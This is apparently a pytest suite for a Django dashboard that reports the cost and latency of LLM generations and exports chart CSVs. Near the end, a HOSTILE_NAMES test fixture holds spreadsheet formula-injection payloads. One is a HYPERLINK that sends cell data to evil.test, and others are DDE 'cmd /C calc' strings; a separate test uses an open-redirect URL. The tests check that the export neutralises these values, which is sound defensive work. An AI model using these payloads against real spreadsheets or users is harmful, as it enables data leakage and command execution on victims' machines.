import csv
import io
import json
import re
from datetime import timedelta
from urllib.parse import parse_qs, urlsplit

import pytest
from django.utils import timezone

from generations.middleware import SESSION_TIME_ZONE_KEY
from generations.models import KeyLabel, ViewerPreference
from tests.analytics.charts import DASHBOARD_CHARTS
from tests.factories import make_generation

pytestmark = pytest.mark.django_db

# Session + user, saved zone, the grouped totals, the per-key totals, the previous totals, the
# series, the histograms (latency and throughput in one query), the previous latency histogram,
# key labels, four filter-choice lists, saving the zone into the session (savepoint, update,
# release), the fetch-worker alert banner and the user's permissions and group permissions (the nav
# shows Import to members only). Later requests skip the zone lookup and the session save.
# From rollups (generations/analytics/rollups.py) each total is one query per grain it reads (presets are
# whole hours, so never raw rows): the 7-day page reads its whole UTC days and the hours at both
# edges, so the three totals are 2 queries each and the series 2 (days, and the hours of the first
# and last bucket); a histogram is 1 query over every grain.
# At most: a range edge on a UTC midnight needs no hours. Still independent of the number of rows
# (see below); the 30-day Berlin page reads 24-hour windows for its local days.
# The filter choices are cached under the daily key rollup's largest id: +1 query (that id) when
# the cache is cold, then 1 instead of 4 on later pages.
# The cost-by-model card's prices (pricing.selectors.model_rates): the catalogue's price histories of
# the page's models, +1 (the cost check's rollup sums) when any is in the catalogue
# (tests/pricing/test_model_rates.py); these rows have no catalogue.
DASHBOARD_QUERIES = 24
LATER_DASHBOARD_QUERIES = 19


@pytest.fixture
def recent_rows():
    now = timezone.now()
    models = ["openai/gpt-4o", "anthropic/claude-sonnet-4", "google/gemini-2.5-flash"]
    for number in range(12):
        make_generation(
            f"dash-{number}",
            body=False,
            model=models[number % 3],
            provider=models[number % 3].split("/")[0],
            api_key_hash=f"sha256:key-{number % 2}",
            is_byok=number % 4 == 0,
            cost_pico=None if number == 5 else 10**9 * (number + 1),
            occurred_at=now - timedelta(hours=number * 5 + 1),
        )
    KeyLabel.objects.create(api_key_hash="sha256:key-0", name="Support bot", team="Support")


def chart_data(response, slug):
    html = response.content.decode()
    marker = f'<script id="chart-data-{slug}" type="application/json">'
    start = html.index(marker) + len(marker)
    return json.loads(html[start : html.index("</script>", start)])


def test_dashboard_shows_figures_every_chart_with_table_and_csv(
    user_client, recent_rows, django_assert_max_num_queries
):
    with django_assert_max_num_queries(DASHBOARD_QUERIES):
        response = user_client.get("/dashboard/")
    assert response.status_code == 200
    html = response.content.decode()
    assert "<html" in html
    for label in ["Total cost", "Requests", "p95 latency", "BYOK share", "Cost / 1K tokens"]:
        assert label in html
    assert "1 generation of unknown cost not included" in html
    for slug in DASHBOARD_CHARTS:
        assert f'data-chart="chart-data-{slug}"' in html
        assert f"/dashboard/table/{slug}.csv?" in html
    assert html.count('<table class="data">') == len(DASHBOARD_CHARTS)
    assert "Support bot" in html
    assert "<script>" not in html  # chart data only as JSON, drawn by static/js/dashboard.js
    assert "js/dashboard.js" in html


def test_the_query_count_does_not_grow_with_rows(user_client, recent_rows, django_assert_max_num_queries):
    for number in range(30):
        make_generation(f"more-{number}", body=False, model=f"vendor/model-{number}", occurred_at=timezone.now())
    user_client.get("/dashboard/")
    with django_assert_max_num_queries(LATER_DASHBOARD_QUERIES):
        user_client.get("/dashboard/?range=30d&tz=Europe/Berlin")


def test_htmx_gets_only_the_dashboard_body(user_client, recent_rows):
    response = user_client.get("/dashboard/?range=30d", headers={"HX-Request": "true"})
    html = response.content.decode()
    assert response.status_code == 200
    assert html.lstrip().startswith('<div id="dashboard-body"')
    assert "<html" not in html
    assert "chart-data-cost-by-model" in html


def test_filter_form_is_a_real_get_form_that_htmx_enhances(user_client):
    html = user_client.get("/dashboard/").content.decode()
    assert 'method="get" action="/dashboard/"' in html
    assert 'hx-get="/dashboard/"' in html
    assert 'hx-push-url="true"' in html


def test_empty_range_has_a_friendly_empty_state(user_client):
    response = user_client.get("/dashboard/?range=24h")
    assert response.status_code == 200
    assert "No generations in this range" in response.content.decode()


@pytest.mark.parametrize(
    ("query", "message"),
    [
        ("range=custom&start=2025-02-30&end=2025-03-01", "Enter a valid date"),
        ("range=custom&start=2025-03-10&end=2025-03-01", "end date is before the start date"),
        ("tz=Not/A_Zone", "Unknown time zone"),
        ("bucket=decade", "Select a valid choice"),
        ("model=" + "x" * 500, "at most 200 characters"),
    ],
)
def test_bad_filters_are_a_400_with_a_clear_message(user_client, query, message):
    response = user_client.get(f"/dashboard/?{query}")
    assert response.status_code == 400
    assert message in response.content.decode()
    htmx = user_client.get(f"/dashboard/?{query}", headers={"HX-Request": "true"})
    assert message in htmx.content.decode()
    assert user_client.get(f"/dashboard/table/cost-by-model.csv?{query}").status_code == 400


def test_drill_down_links_carry_the_page_filters(user_client, recent_rows):
    response = user_client.get("/dashboard/?range=30d&tz=Europe/Berlin&byok=no")
    links = chart_data(response, "cost-by-model")["links"]
    assert links
    query = parse_qs(urlsplit(links[0]).query)
    assert urlsplit(links[0]).path == "/generations/"
    assert query["range"] == ["30d"] and query["tz"] == ["Europe/Berlin"] and query["byok"] == ["no"]
    assert query["model"][0] in {"openai/gpt-4o", "anthropic/claude-sonnet-4", "google/gemini-2.5-flash"}
    bucket_link = chart_data(response, "cost-over-time")["links"][-1]
    bucket_query = parse_qs(urlsplit(bucket_link).query)
    assert bucket_query["range"] == ["custom"] and bucket_query["start"] == bucket_query["end"]
    assert f'href="{links[0].replace("&", "&amp;")}"' in response.content.decode()


def test_chart_csv_is_the_table(user_client, recent_rows):
    response = user_client.get("/dashboard/table/cost-by-model.csv?range=30d")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert rows[0][:3] == ["Model", "Requests", "Cost"]
    assert sum(int(row[1]) for row in rows[1:]) == 12
    assert user_client.get("/dashboard/table/no-such-chart.csv").status_code == 404


def test_theme_switch_sets_a_cookie_without_javascript(user_client):
    response = user_client.post("/preferences/theme/", {"theme": "dark", "next": "/dashboard/?range=30d"})
    assert response.status_code == 302
    assert response["Location"] == "/dashboard/?range=30d"
    assert response.cookies["theme"].value == "dark"
    assert 'data-theme="dark"' in user_client.get("/dashboard/").content.decode()
    outside = user_client.post("/preferences/theme/", {"theme": "light", "next": "https://evil.example/"})
    assert outside["Location"] == "/dashboard/"


def test_time_zone_choice_is_saved_for_the_user_and_the_session(user_client, user):
    response = user_client.post("/preferences/time-zone/", {"tz": "America/Los_Angeles", "next": "/dashboard/"})
    assert response.status_code == 302
    assert ViewerPreference.objects.get(user=user).time_zone == "America/Los_Angeles"
    assert user_client.session[SESSION_TIME_ZONE_KEY] == "America/Los_Angeles"
    assert 'value="America/Los_Angeles"' in user_client.get("/dashboard/").content.decode()
    assert user_client.post("/preferences/time-zone/", {"tz": "Nowhere/Land"}).status_code == 400


def test_saved_zone_is_the_default_in_a_new_session(client, user):
    ViewerPreference.objects.create(user=user, time_zone="Asia/Tokyo")
    client.force_login(user)
    html = client.get("/dashboard/").content.decode()
    assert "Asia/Tokyo · by" in html
    assert client.session[SESSION_TIME_ZONE_KEY] == "Asia/Tokyo"


def test_site_zone_is_the_default(user_client, settings):
    settings.TIME_ZONE = "Europe/Berlin"
    assert "Europe/Berlin · by" in user_client.get("/dashboard/").content.decode()


def test_dashboard_needs_login(client):
    for url in ["/dashboard/", "/dashboard/table/cost-by-model.csv", "/generations/", "/generations/export.csv"]:
        response = client.get(url)
        assert response.status_code == 302
        assert response["Location"].startswith("/accounts/login/")


def test_nav_links_to_dashboard_and_generations(user_client):
    html = user_client.get("/").content.decode()
    assert 'href="/dashboard/"' in html and 'href="/generations/"' in html


def test_a_fall_back_days_repeated_hour_is_two_labelled_rows(user_client, django_assert_max_num_queries):
    from datetime import UTC, datetime

    for n, at in enumerate([datetime(2026, 10, 25, 0, 30, tzinfo=UTC), datetime(2026, 10, 25, 1, 30, tzinfo=UTC)]):
        make_generation(f"fold-{n}", body=False, occurred_at=at)
    query = "range=custom&start=2026-10-25&end=2026-10-25&tz=Europe/Berlin&bucket=hour"
    response = user_client.get(f"/dashboard/table/cost-over-time.csv?{query}")
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))[1:]
    assert len(rows) == 25
    labels = [row[0] for row in rows]
    assert "Sun 25 Oct 02:00 CEST" in labels and "Sun 25 Oct 02:00 CET" in labels
    assert labels.index("Sun 25 Oct 02:00 CEST") + 1 == labels.index("Sun 25 Oct 02:00 CET")


def test_a_chart_csv_reads_only_what_its_chart_needs(user_client, recent_rows, django_assert_max_num_queries):
    user_client.get("/dashboard/")  # the session's zone saved, the choices cached
    # Session + user, the fetch-worker banner, one grouped read per grain: no series, no
    # histograms, no previous period, no filter choices.
    with django_assert_max_num_queries(6):
        response = user_client.get("/dashboard/table/cost-by-model.csv?range=30d")
    assert response.status_code == 200


HOSTILE_NAMES = {
    "model": '=HYPERLINK("http://evil.test/?"&A1,"open")',
    "provider": "+cmd|' /C calc'!A0",
    "api_key_hash": "@SUM(1+1)*cmd|' /C calc'!A0",
    "endpoint": "-2+3+cmd|' /C calc'!A0",
}
PLAIN_NUMBER = re.compile(r"-?\d+(\.\d+)?")


def csv_records(user_client, url):
    response = user_client.get(url)
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


def test_every_chart_csv_neutralises_formulas_and_writes_plain_decimals(user_client):
    hour = timezone.now().replace(minute=0, second=0, microsecond=0) - timedelta(hours=2)
    make_generation("ten-dollars", body=False, cost_pico=10 * 10**12, occurred_at=hour + timedelta(minutes=5))
    make_generation("one-pico", body=False, cost_pico=1, occurred_at=hour - timedelta(hours=3), **HOSTILE_NAMES)
    KeyLabel.objects.create(api_key_hash="sha256:aaaabbbbcccc", name="\t=1+1", team="=TEAM()")
    html = user_client.get("/dashboard/?range=24h").content.decode()
    urls = sorted(set(re.findall(r'href="(/dashboard/table/[\w-]+\.csv\?[^"]*)"', html)))
    assert len(urls) == 12
    cells = []
    for url in urls:
        cells += [cell for row in csv_records(user_client, url.replace("&amp;", "&")) for cell in row]
    assert not [cell for cell in cells if cell.startswith(tuple("=+-@\t\r")) and not PLAIN_NUMBER.fullmatch(cell)]
    for name in [HOSTILE_NAMES["model"], HOSTILE_NAMES["provider"], "\t=1+1", "=TEAM()"]:
        assert "'" + name in cells
    assert not [cell for cell in cells if "E+" in cell or "E-" in cell]
    over_time = csv_records(user_client, "/dashboard/table/cost-over-time.csv?range=24h")
    totals = [row[1] for row in over_time[1:]]
    assert "10" in totals  # the $10 hour: Decimal("1E+1") before
    assert "0.000000000001" in totals  # the one-pico hour: Decimal("1E-12")


def test_the_running_bucket_says_partial_in_its_table_row_only(user_client, recent_rows):
    response = user_client.get("/dashboard/?range=7d&bucket=day")
    for slug in ("requests-over-time", "cost-over-time"):
        data = chart_data(response, slug)
        assert data["partial"] == len(data["labels"]) - 1
    assert chart_data(response, "requests-over-time")["counts"] is True
    html = response.content.decode()
    assert html.count('<span class="muted">(partial)</span>') == 2  # the two time charts' tables
    csv_response = user_client.get("/dashboard/table/requests-over-time.csv?range=7d&bucket=day")
    text = b"".join(csv_response.streaming_content).decode()
    assert "partial" not in text
    assert len(list(csv.reader(io.StringIO(text)))) == len(data["labels"]) + 1


def test_a_percentile_csv_keeps_its_stored_unit_whatever_the_page_shows(user_client, recent_rows):
    rows = list(
        csv.reader(
            io.StringIO(
                b"".join(user_client.get("/dashboard/table/latency-by-model.csv?range=30d").streaming_content).decode()
            )
        )
    )
    assert rows[0] == ["Model", "Requests measured", "p50 (ms)", "p95 (ms)", "p99 (ms)"]


def test_without_teams_staff_get_a_link_to_label_keys_and_others_the_words(user_client, admin_client, recent_rows):
    KeyLabel.objects.update(team="")
    for client, linked in ((user_client, False), (admin_client, True)):
        html = client.get("/dashboard/?range=30d").content.decode()
        card = html.split('id="chart-cost-by-team"', 1)[1].split("</section>", 1)[0]
        assert "No API key has a team yet" in card
        assert "<canvas" not in card
        assert ('href="/admin/generations/keylabel/"' in card) is linked
